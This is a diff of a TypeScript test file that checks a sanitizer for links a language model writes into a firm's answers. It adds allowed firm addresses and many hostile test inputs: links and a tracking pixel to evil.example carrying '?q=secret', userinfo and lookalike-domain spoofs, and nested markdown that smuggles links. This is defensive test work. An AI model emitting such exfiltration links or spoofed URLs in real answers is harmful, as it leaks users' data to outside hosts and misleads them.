@@ -15,12 +15,13 @@ const SHEET: Passage = {
   id: '3',
   title: 'About the firm',
   url: null,
-  text: 'The office is open from nine to six.',
+  text: 'The office is open from nine to six. Residence permits: AIMA.gov.pt. Or https://www.sef.pt:8080/x?y.',
 };
 const CONTEXT: AnswerContext = {
   passages: [FUND, STAY, SHEET],
   publishedSlugs: new Set(['golden-visa', 'stays']),
   origin: 'https://firm.example',
+  firmAddresses: ['https://booking.example', 'https://reviews.example/firm'],
   language: 'en',
 };
 
@@ -96,6 +97,27 @@ describe('a link that the model wrote itself', () => {
     ['[x](//evil.example)', 'x'],
     ['[x](data:text/html,hi)', 'x'],
     ['![pixel](https://evil.example/?q=secret)', 'pixel'],
+    ['[x](https://evil.example/?q=secret)', 'x'],
+    [
+      '[book](https://booking.example/book_service?service=a)',
+      '[book](https://booking.example/book_service?service=a)',
+    ],
+    ['[reviews](https://Reviews.example/other)', '[reviews](https://Reviews.example/other)'],
+    ['[us](http://firm.example/about)', '[us](http://firm.example/about)'],
+    ['[SEF](https://www.sef.pt:8080/z)', '[SEF](https://www.sef.pt:8080/z)'],
+    ['[x](https://sef.pt/)', 'x'],
+    ['[x](https://aima.gov.pt.evil.example/)', 'x'],
+    ['[x](https://firm.example@evil.example/)', 'x'],
+    ['[x](https://evil@booking.example/)', 'x'],
+    ['[x](https:\\\\evil.example)', 'x'],
+    ['[x](/\\evil.example)', 'x'],
+    ['[x](<https://booking.example/) [y](https://evil.example/>)', 'x y'],
+    ['[x](<https://booking.example/ [y](https://evil.example/>)', 'x'],
+    [`[${'x'.repeat(301)}](https://evil.example/)`, `[${'x'.repeat(301)}] (https://evil.example/)`],
+    ['[x[[9|not in there at all]]y](https://evil.example/)', '[xy] (https://evil.example/)'],
+    ['[x [y](https://evil.example/)](https://evil.example/)', '[x y] (https://evil.example/)'],
+    ['[x] [[9|not in there at all]](https://evil.example/)', '[x] (https://evil.example/)'],
+    ['[x][[9|not in there at all]](https://evil.example/)', '[x] (https://evil.example/)'],
   ])('%s is shown as %s', (answer, shown) => expect(text(`See ${answer} here`)).toBe(`See ${shown} here`));
 });
 
